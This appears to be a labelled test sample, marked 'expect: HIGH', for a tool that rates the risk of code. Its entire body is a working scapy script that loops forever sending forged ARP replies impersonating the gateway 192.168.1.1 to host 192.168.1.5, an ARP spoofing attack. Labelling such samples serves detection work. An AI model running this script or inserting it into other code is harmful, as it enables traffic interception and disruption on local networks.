# expect: HIGH
from scapy.all import ARP, send
while True:
    send(ARP(op=2, pdst="192.168.1.5", psrc="192.168.1.1"))
